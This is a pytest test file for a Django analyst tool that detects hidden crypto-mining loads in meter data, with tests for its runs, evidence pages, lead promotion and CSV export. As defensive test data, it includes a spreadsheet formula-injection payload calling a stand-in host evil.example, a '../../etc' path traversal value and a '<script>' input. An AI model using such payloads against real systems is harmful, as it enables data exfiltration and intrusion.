# ruff: noqa: F811  (pytest fixtures shared from test_services are imported, then requested by name)
"""Analyst pages for meter detection: start a run, watch its status, filter, open evidence, promote, export."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from minesweep.accounts.roles import Role
from minesweep.cases.models import Lead
from minesweep.detection.models import MeterRun, MeterSuspect
from minesweep.detection.tests.test_services import (  # noqa: F401  (fixtures)
    FARM_ACCOUNT,
    data_root,
    hidden_farm,
    parquet_upload,
    simulated,
)
from minesweep.jobs.worker import run_worker

pytestmark = pytest.mark.django_db


@pytest.fixture
def analyst(make_staff):  # type: ignore[no-untyped-def]
    return make_staff("region_analyst", Role.ANALYST, "150000")


def test_it_runs_a_detection_from_an_upload_and_promotes_the_top_suspect(
    data_root, hidden_farm, simulated, analyst, client_for
):
    client = client_for(analyst)
    page = client.get("/analytics/meters/")
    assert page.status_code == 200 and "sim/readings/" in page.content.decode()  # server data offered
    response = client.post("/analytics/meters/new/", {"name": "全区测试", "files": parquet_upload(simulated)})
    run = MeterRun.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/analytics/meters/{run.pk}/"
    queued = client.get(f"/analytics/meters/{run.pk}/").content.decode()
    assert "data-job-status-url" in queued and "排队中" in queued
    assert run_worker(once=True) == 1
    assert client.get(f"/jobs/{run.job_id}/status/").json()["status"] == "succeeded"
    body = client.get(f"/analytics/meters/{run.pk}/").content.decode()
    assert FARM_ACCOUNT in body and "鄂尔多斯隐秘算力数据有限公司" in body
    suspect = MeterSuspect.objects.get(run=run, account_id=FARM_ACCOUNT)
    evidence = client.get(f"/analytics/meters/suspects/{suspect.pk}/").content.decode()
    assert "数据中心" in evidence and "负荷地毯图" in evidence and "kW" in evidence
    meter_score = suspect.reasons["meter_score"]  # shown to three decimals, as the fused score beside it
    assert f"用电评分 {meter_score:.3f} →" in evidence
    image = client.get(f"/analytics/meters/suspects/{suspect.pk}/carpet.png")
    assert (
        image.status_code == 200 and image["Content-Type"] == "image/png" and image.content[:4] == b"\x89PNG"
    )
    assert client.get(f"/analytics/meters/suspects/{suspect.pk}/other.png").status_code == 404
    promoted = client.post(f"/analytics/meters/suspects/{suspect.pk}/promote/", follow=True)
    lead = Lead.objects.get()
    assert lead.number in promoted.content.decode()
    assert lead.number in client.get("/staff/").content.decode()
    again = client.post(f"/analytics/meters/suspects/{suspect.pk}/promote/", follow=True)
    assert "已转为线索" in again.content.decode() and Lead.objects.count() == 1


def test_it_filters_suspects_and_exports_what_is_shown(
    data_root, hidden_farm, simulated, analyst, client_for
):
    client = client_for(analyst)
    client.post("/analytics/meters/new/", {"name": "筛选", "files": parquet_upload(simulated)})
    run_worker(once=True)
    run = MeterRun.objects.get()
    everything = client.get(f"/analytics/meters/{run.pk}/").content.decode()
    assert everything.count("/analytics/meters/suspects/") >= 40
    ordos = client.get(f"/analytics/meters/{run.pk}/", {"league": "150600"}).content.decode()
    assert FARM_ACCOUNT in ordos and "SIM0000006" not in ordos
    high = client.get(f"/analytics/meters/{run.pk}/", {"min_score": "0.9", "suspects": "1"}).content.decode()
    assert (
        FARM_ACCOUNT in high
        and high.count('class="is-suspect"')
        == MeterSuspect.objects.filter(run=run, score__gte=0.9, suspect=True).count()
    )
    export = client.get(f"/analytics/meters/{run.pk}/export.csv", {"min_score": "0.9"})
    text = export.content.decode("utf-8-sig")
    assert export["Content-Type"].startswith("text/csv") and FARM_ACCOUNT in text
    assert len(text.strip().splitlines()) == 1 + MeterSuspect.objects.filter(run=run, score__gte=0.9).count()
    for junk in ({"min_score": "abc"}, {"league": "<script>"}, {"page": "999"}):
        assert client.get(f"/analytics/meters/{run.pk}/", junk).status_code == 200
    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'  # issue 14: came out raw in this export
    MeterSuspect.objects.filter(run=run, account_id=FARM_ACCOUNT).update(account_id=attack)
    exported = client.get(f"/analytics/meters/{run.pk}/export.csv").content.decode("utf-8-sig")
    assert "'" + attack.replace('"', '""') in exported and "," + attack not in exported


def test_the_evidence_page_defines_the_mining_load_as_its_basis_measured_it(
    data_root, hidden_farm, simulated, analyst, client_for
):
    """Rigs added to servers are measured over every hour since the jump (``added_load``): the page
    must not say that hours switched off were left out."""
    from minesweep.detection.tests.test_services import finished_meter_run

    finished_meter_run("test", simulated)
    suspect = MeterSuspect.objects.get(account_id=FARM_ACCOUNT)
    client = client_for(analyst)
    page = f"/analytics/meters/suspects/{suspect.pk}/"
    running = client.get(page).content.decode()
    assert "运行小时内的平均功率" in running and "突增以来的小时数" not in running
    MeterSuspect.objects.filter(pk=suspect.pk).update(est_basis="added_load")
    added = client.get(page).content.decode()
    assert "突增以来的小时数" in added and "运行小时内的平均功率" not in added
    assert "流量表明原有负荷为服务器" in added
    MeterSuspect.objects.filter(pk=suspect.pk).update(est_mining_kwh=1144642.0)
    assert "<dd>1144642 kWh</dd>" in client.get(page).content.decode()  # was "1144642.0 kWh"
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    assert "<dd>1,144,642 kWh</dd>" in client.get(page).content.decode()


def test_the_evidence_page_says_what_held_the_score_down(
    data_root, hidden_farm, simulated, analyst, client_for
):
    """An analyst reading a low score sees the counters beside the reasons, in one language at a time."""
    from minesweep.detection.tests.test_services import finished_meter_run

    finished_meter_run("test", simulated)
    suspect = MeterSuspect.objects.get(account_id=FARM_ACCOUNT)
    against = [{"feature": "night_to_night_change", "value": 0.1568, "contribution": -4.5}]
    MeterSuspect.objects.filter(pk=suspect.pk).update(reasons={**suspect.reasons, "against": against})
    client = client_for(analyst)
    page = f"/analytics/meters/suspects/{suspect.pk}/"
    zh = client.get(page).content.decode()
    assert "主要反证" in zh and "夜间负荷逐夜用电变化" in zh and "-4.5" in zh and "Evidence against" not in zh
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    en = client.get(page).content.decode()
    assert "Evidence against" in en and "Change of what the night load drew" in en and "主要反证" not in en
    MeterSuspect.objects.filter(pk=suspect.pk).update(reasons={**suspect.reasons, "against": []})
    assert "Evidence against" not in client.get(page).content.decode()  # none: no empty table


def test_a_promoted_suspects_lead_reads_in_one_language_at_a_time(
    data_root, hidden_farm, simulated, analyst, client_for, make_staff
):
    """The lead's summary was stored and shown as "中文 / English" in one paragraph."""
    from minesweep.detection.tests.test_services import finished_meter_run

    finished_meter_run("test", simulated)
    suspect = MeterSuspect.objects.get(account_id=FARM_ACCOUNT)
    client_for(analyst).post(f"/analytics/meters/suspects/{suspect.pk}/promote/")
    lead = Lead.objects.get()
    assert lead.summary.startswith("评分 ") and "Score" not in lead.summary  # documents quote it
    assert lead.summary_en.startswith("Score ") and "评分" not in lead.summary_en
    reader = client_for(make_staff("region_officer", Role.INVESTIGATOR, "150000"))
    chinese = reader.get(f"/cases/leads/{lead.pk}/").content.decode()
    assert lead.summary in chinese and lead.summary_en not in chinese
    reader.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = reader.get(f"/cases/leads/{lead.pk}/").content.decode()
    assert lead.summary_en in english and lead.summary not in english


@pytest.mark.parametrize(
    "post,expected",
    [
        ({}, "请上传文件或选择服务器数据路径"),
        ({"server_path": "../../etc"}, "路径必须位于服务器数据目录之内"),
        ({"server_path": "sim/readings/", "since": "2021-13-01"}, "开始日期不是有效日期"),
        ({"server_path": "sim/readings/", "rig": "X9000"}, "未知矿机型号"),
    ],
)
def test_it_shows_clear_errors_and_changes_nothing(data_root, analyst, client_for, post, expected):
    response = client_for(analyst).post("/analytics/meters/new/", post)
    assert response.status_code == 400 and expected in response.content.decode()
    assert not MeterRun.objects.exists()


def test_it_takes_a_traffic_file_checked_whole_before_the_run_is_queued(
    data_root, simulated, analyst, client_for
):
    client = client_for(analyst)
    header = b"account_id,start,end,mean_mbps\n"
    bad = SimpleUploadedFile(
        "traffic.csv", header + b"A,2021-01-01,2021-01-07,5\nA,2021-01-08,2021-01-14,lots\n"
    )
    refused = client.post(
        "/analytics/meters/new/", {"server_path": "sim/readings/", "traffic": bad}
    ).content.decode()
    assert "流量文件第 2 行" in refused and "mean_mbps" in refused and not MeterRun.objects.exists()
    for field in ("traffic", "accounts_meta"):  # rows of another length: refused, not an error page
        ragged = SimpleUploadedFile("x.csv", header + b"A,2021-01-01,2021-01-07,5,EXTRA\n")
        response = client.post("/analytics/meters/new/", {"server_path": "sim/readings/", field: ragged})
        assert response.status_code == 400 and "无法读取" in response.content.decode()
    assert not MeterRun.objects.exists()
    good = SimpleUploadedFile("traffic.csv", header + f"{FARM_ACCOUNT},2021-01-01,2021-01-07,0.02\n".encode())
    client.post("/analytics/meters/new/", {"server_path": "sim/readings/", "traffic": good})
    run = MeterRun.objects.get()
    assert run.params["traffic"].endswith(".csv") and run_worker(once=True) == 1
    run.refresh_from_db()
    assert run.summary["suspects"] >= 1


def test_it_takes_the_daily_temperature_so_loads_can_be_told_by_the_weather(
    data_root, simulated, analyst, client_for
):
    client = client_for(analyst)
    header = b"date,temp_c\n"
    fahrenheit = SimpleUploadedFile("t.csv", header + b"2021-01-01,14\n2021-01-02,75.2\n")
    refused = client.post(
        "/analytics/meters/new/", {"server_path": "sim/readings/", "temperature": fahrenheit}
    )
    assert refused.status_code == 400 and "气温文件第 2 行" in refused.content.decode()
    assert not MeterRun.objects.exists()
    weather = SimpleUploadedFile("temperature.csv", (simulated / "temperature.csv").read_bytes())
    client.post(
        "/analytics/meters/new/", {"name": "有气温", "server_path": "sim/readings/", "temperature": weather}
    )
    client.post("/analytics/meters/new/", {"name": "无气温", "server_path": "sim/readings/"})
    assert run_worker(once=True) == 2  # both runs
    with_weather, without = MeterRun.objects.get(name="有气温"), MeterRun.objects.get(name="无气温")
    assert with_weather.params["temperature"].endswith(".csv") and "temperature" not in without.params

    def missing(run: MeterRun) -> list[str]:
        suspect = MeterSuspect.objects.filter(run=run, suspect=True).first()
        assert suspect is not None
        return [item["zh"] for item in suspect.reasons["fusion"]["missing"]]

    assert not any("气温" in item for item in missing(with_weather))
    assert any("未提供气温" in item for item in missing(without))
    assert 'id="no-temperature"' not in client.get(f"/analytics/meters/{with_weather.pk}/").content.decode()
    assert 'id="no-temperature"' in client.get(f"/analytics/meters/{without.pk}/").content.decode()


def test_evidence_pictures_are_drawn_in_the_viewers_language(
    data_root, hidden_farm, simulated, analyst, client_for
):
    """They are cached beside the run: an English viewer after a Chinese one got the Chinese titles."""
    from minesweep.detection.tests.test_services import finished_meter_run

    finished_meter_run("test", simulated)
    client = client_for(analyst)
    suspect = MeterSuspect.objects.get(account_id=FARM_ACCOUNT)
    chinese = client.get(f"/analytics/meters/suspects/{suspect.pk}/daily.png").content
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = client.get(f"/analytics/meters/suspects/{suspect.pk}/daily.png").content
    assert english[:4] == chinese[:4] == b"\x89PNG" and english != chinese
    # a lead's copy is part of the case file: in Chinese, though an English viewer promotes it
    client.post(f"/analytics/meters/suspects/{suspect.pk}/promote/")
    attached = {a.name: bytes(a.content) for a in Lead.objects.get().attachments.all()}
    assert attached[f"daily-{FARM_ACCOUNT}.png"] == chinese
    client.post("/i18n/setlang/", {"language": "zh-hans", "next": "/"})
    cached = client.get(f"/analytics/meters/suspects/{suspect.pk}/daily.png").content
    assert cached == chinese


def test_the_evidence_page_names_pictures_and_categories_in_its_language(
    data_root, hidden_farm, simulated, analyst, client_for
):
    """A browser keeps an image by its address: under one address for both languages, Chromium showed the
    Chinese picture on the English page after the switch (seen in a screenshot), whatever ``Vary`` said."""
    from minesweep.detection.tests.test_services import finished_meter_run

    finished_meter_run("test", simulated)
    client = client_for(analyst)
    suspect = MeterSuspect.objects.get(account_id=FARM_ACCOUNT)
    page = f"/analytics/meters/suspects/{suspect.pk}/"
    chinese = client.get(page).content.decode()
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = client.get(page).content.decode()
    for name in ("carpet", "daily"):
        assert f"{page}{name}.png?lang=zh-hans" in chinese and f"{page}{name}.png?lang=en" in english
        assert client.get(f"{page}{name}.png?lang=en").content[:4] == b"\x89PNG"
    # the holder's categories too (they were shown by their Chinese names only)
    assert (
        ">数据中心</span>" in chinese
        and ">Data centre</span>" in english
        and ">数据中心</span>" not in english
    )


def test_it_rejects_a_file_by_its_content_not_its_name(data_root, analyst, client_for):
    fake = SimpleUploadedFile("readings.parquet", b"PAR1 this is not parquet")
    response = client_for(analyst).post("/analytics/meters/new/", {"files": fake})
    assert response.status_code == 400 and "文件内容不是可接受的格式" in response.content.decode()


def test_it_shows_a_failed_run_with_its_reason(data_root, analyst, client_for):
    client = client_for(analyst)
    bad = SimpleUploadedFile("bad.csv", b"account_id,ts,kwh\nA,2025-01-01 00:00,-1\n")
    client.post("/analytics/meters/new/", {"files": bad})
    run_worker(once=True)
    body = client.get(f"/analytics/meters/{MeterRun.objects.get().pk}/").content.decode()
    assert "检测失败" in body and "负值" in body


def test_the_run_page_doubts_a_clock_that_puts_working_days_at_night(
    data_root, analyst, client_for, tmp_path
):
    from minesweep.detection.tests.test_meter_detect import _offices_csv

    client = client_for(analyst)
    for name, utc in (("北京时间", ()), ("UTC", ("OFFICE3",))):
        _offices_csv(tmp_path / "offices.csv", utc_accounts=utc)
        upload = SimpleUploadedFile("offices.csv", (tmp_path / "offices.csv").read_bytes())
        client.post("/analytics/meters/new/", {"name": name, "files": upload})
    assert run_worker(once=True) == 2
    right, wrong = MeterRun.objects.get(name="北京时间"), MeterRun.objects.get(name="UTC")
    assert (right.summary["working_rhythm"], right.summary["rhythm_at_night"]) == (4, 0)
    assert (wrong.summary["working_rhythm"], wrong.summary["rhythm_at_night"]) == (4, 1)
    assert "rhythm_at_night_accounts" not in wrong.summary  # ids are not for every jurisdiction's eyes
    assert 'id="clock-doubtful"' not in client.get(f"/analytics/meters/{right.pk}/").content.decode()
    page = client.get(f"/analytics/meters/{wrong.pk}/").content.decode()
    assert (
        'id="clock-doubtful"' in page and "1 / 4" in page and "UTC" in page and "Clock in doubt" not in page
    )
    evidence = {s.account_id: s.pk for s in MeterSuspect.objects.filter(run=wrong)}
    doubted = client.get(f"/analytics/meters/suspects/{evidence['OFFICE3']}/").content.decode()
    assert 'id="clock-doubtful"' in doubted and "05:30" in doubted
    right_time = client.get(f"/analytics/meters/suspects/{evidence['OFFICE1']}/").content.decode()
    assert 'id="clock-doubtful"' not in right_time
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    page = client.get(f"/analytics/meters/{wrong.pk}/").content.decode()
    assert "Clock in doubt: 1 of 4 accounts" in page and "时钟存疑" not in page
    doubted = client.get(f"/analytics/meters/suspects/{evidence['OFFICE3']}/").content.decode()
    assert "centred at 05:30 Beijing time, at night" in doubted

    # the same file again, telling it that its unmarked times are UTC: OFFICE3's working days are back in
    # the day, and the others' times, written with their offset, are read as before
    upload = SimpleUploadedFile("offices.csv", (tmp_path / "offices.csv").read_bytes())
    client.post("/analytics/meters/new/", {"name": "按UTC", "files": upload, "unmarked_times_utc": "on"})
    assert run_worker(once=True) == 1
    again = MeterRun.objects.get(name="按UTC")
    assert again.params["unmarked_times_utc"] is True and again.summary["rhythm_at_night"] == 0
    page = client.get(f"/analytics/meters/{again.pk}/").content.decode()
    assert 'id="unmarked-utc"' in page and "read times written without an offset as UTC" in page


def test_it_is_in_the_analyst_menu_in_english_too(analyst, client_for):
    client = client_for(analyst)
    assert "/analytics/meters/" in client.get("/staff/").content.decode()
    client.post("/i18n/setlang/", {"language": "en", "next": "/analytics/meters/"})
    assert "Meter-data detection" in client.get("/analytics/meters/").content.decode()


def test_an_analyst_cancels_a_queued_run_from_its_page(data_root, simulated, analyst, client_for):
    client = client_for(analyst)
    client.post("/analytics/meters/new/", {"name": "取消测试", "files": parquet_upload(simulated)})
    run = MeterRun.objects.get()
    page = client.get(f"/analytics/meters/{run.pk}/").content.decode()
    assert "取消任务" in page
    back = client.post(f"/jobs/{run.job_id}/cancel/", {"next": f"/analytics/meters/{run.pk}/"}, follow=True)
    body = back.content.decode()
    assert "检测已取消" in body and "任务已取消" in body
    assert run_worker(once=True) == 0 and not MeterSuspect.objects.exists()


def test_every_feature_an_analyst_can_see_has_a_name_in_both_languages():
    from minesweep.detection.meter.kernels.features import FEATURE_DOCS
    from minesweep.detection.meter.scoring import ESTIMATE_BASES, REPORTED_COLUMNS, load_pack
    from minesweep.detection.views import BASIS_NAMES, FEATURE_NAMES, ROUTE_NAMES

    pack = load_pack()
    shown = set(FEATURE_DOCS) | set(pack.feature_names) | set(REPORTED_COLUMNS)
    assert shown <= set(FEATURE_NAMES), sorted(shown - set(FEATURE_NAMES))
    assert set(pack.routes) <= set(ROUTE_NAMES)
    assert set(ESTIMATE_BASES) == set(BASIS_NAMES)
    assert all(zh and en and zh != en for zh, en in FEATURE_NAMES.values())


def test_it_shows_a_desk_check_first_where_only_flow_data_can_clear_a_data_centre(analyst, client_for):
    from minesweep.detection.meter.fusion import NEXT_STEP_WORDS

    run = MeterRun.objects.create(name="桌面核查", source=MeterRun.Source.DEMO, division_id="150602")
    zh, en = NEXT_STEP_WORDS["desk_check"]
    fusion = {"parts": [], "missing": [], "next_step": {"code": "desk_check", "zh": zh, "en": en}}
    desk = MeterSuspect.objects.create(
        run=run,
        rank=1,
        account_id="DC0001",
        division_id="150602",
        score=0.9,
        suspect=True,
        route="flat_load",
        reasons={"route": "flat_load", "top": [], "steps": [], "fusion": fusion},
    )
    visit = MeterSuspect.objects.create(
        run=run,
        rank=2,
        account_id="FARM002",
        division_id="150602",
        score=0.8,
        suspect=True,
        route="flat_load",
        reasons={"fusion": {"parts": [], "missing": [], "next_step": {"code": "field_visit"}}},
    )
    assert desk.needs_desk_check and not visit.needs_desk_check
    client = client_for(analyst)
    evidence = client.get(f"/analytics/meters/suspects/{desk.pk}/").content.decode()
    assert 'id="desk-check-badge"' in evidence and "先做案头核查" in evidence and zh in evidence
    assert "desk-check-badge" not in client.get(f"/analytics/meters/suspects/{visit.pk}/").content.decode()
    listing = client.get(f"/analytics/meters/{run.pk}/").content.decode()
    assert listing.count("先案头核查") == 1
    targets = client.get("/analytics/targets/").content.decode()
    assert targets.count('class="badge desk-check"') == 1 and zh in targets
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = client.get(f"/analytics/meters/suspects/{desk.pk}/").content.decode()
    assert (
        "Desk check first" in english and "obtain the site&#x27;s flow data" in english and zh not in english
    )
